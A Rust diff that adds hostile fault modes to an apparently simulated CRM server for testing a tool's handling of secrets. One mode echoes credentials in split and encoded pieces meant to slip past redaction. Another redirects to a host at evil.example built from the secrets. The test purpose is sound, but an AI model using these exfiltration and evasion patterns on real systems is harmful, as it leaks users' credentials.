@@ -43,6 +43,10 @@ pub(crate) enum Fault {
     EchoInCapitals,
     /// 400, and what was sent comes back in base64.
     EchoInBase64,
+    /// 400, and every secret comes back in pieces, in headers and body, one of them where the shown part of an answer ends.
+    EchoInPieces,
+    /// A redirect to a host whose name is the secret.
+    RedirectToEcho,
     /// 429 that does not say for how long.
     LimitWithoutTime,
     /// An answer of this CRM's own.
@@ -103,12 +107,61 @@ pub(super) fn react(crm: &dyn Crm, fault: &Fault, request: &Request) -> Answer {
             use base64::Engine as _;
             Answer::json(400, &json!({ "sent": base64::engine::general_purpose::STANDARD.encode(sent(request)) }))
         }
+        Fault::EchoInPieces => in_pieces(&secrets_in(crm, request)),
+        Fault::RedirectToEcho => {
+            let names: Vec<String> = secrets_in(crm, request).iter().map(|secret| as_host(secret)).collect();
+            Answer::empty(302).with("Location", &format!("https://{}.evil.example/", names.join(".")))
+        }
         Fault::LimitWithoutTime => Answer::empty(429),
         Fault::Say(answer) => answer.clone(),
         _ if !crm.lets_in(request) => crm.refuse(request),
         Fault::Add(name, value) => crm.answer(request, book).with(name, value),
         _ => crm.answer(request, book),
     }
+}
+
+/// The secrets that a request carries: those of the CRM, and credentials as they arrived.
+fn secrets_in(crm: &dyn Crm, request: &Request) -> Vec<String> {
+    let whole = sent(request);
+    let known = crm.secrets().iter().filter(|secret| whole.contains(**secret)).map(|secret| (*secret).to_owned());
+    let carried =
+        ["authorization", "x-api-token"].map(|name| request.header(name).rsplit(' ').next().unwrap_or_default());
+    known.chain(carried.map(str::to_owned)).filter(|secret| !secret.is_empty()).collect()
+}
+
+/// Letters and digits of a secret, as a name of a host may have them.
+fn as_host(secret: &str) -> String {
+    secret.chars().filter(char::is_ascii_alphanumeric).take(63).collect()
+}
+
+/// How much of a secret stands in one piece.
+pub(super) fn piece(secret: &str) -> usize {
+    secret.len() * 3 / 4
+}
+
+fn in_pieces(secrets: &[String]) -> Answer {
+    /// Characters of an answer that calldex shows.
+    const SHOWN: usize = 600;
+    let mut body = String::new();
+    for secret in secrets {
+        let (front, back) = secret.split_at(piece(secret));
+        body += &format!(
+            "{front} {} {front}\\u{:04x}{} ",
+            &secret[secret.len() - front.len()..],
+            back.as_bytes()[0],
+            &back[1..]
+        );
+        body += &format!("{front}\n{back} {front}%{:02x} {front}&#x{:x};\n", back.as_bytes()[0], back.as_bytes()[0]);
+    }
+    let last = secrets.last().map_or("", String::as_str);
+    let filling = SHOWN.saturating_sub(body.len() + piece(last));
+    body += &format!("{}{last}", "x".repeat(filling));
+    let all = secrets.join(" ");
+    Answer { body, ..Answer::empty(400) }
+        .with("Content-Type", &format!("text/plain; charset={last}"))
+        .with("WWW-Authenticate", &format!("Basic realm=\"{all}\""))
+        .with("Retry-After", &all)
+        .with("X-Error", &all)
 }
 
 /// What of a request may hold a credential, the shortest first: only the beginning of an answer is ever shown.
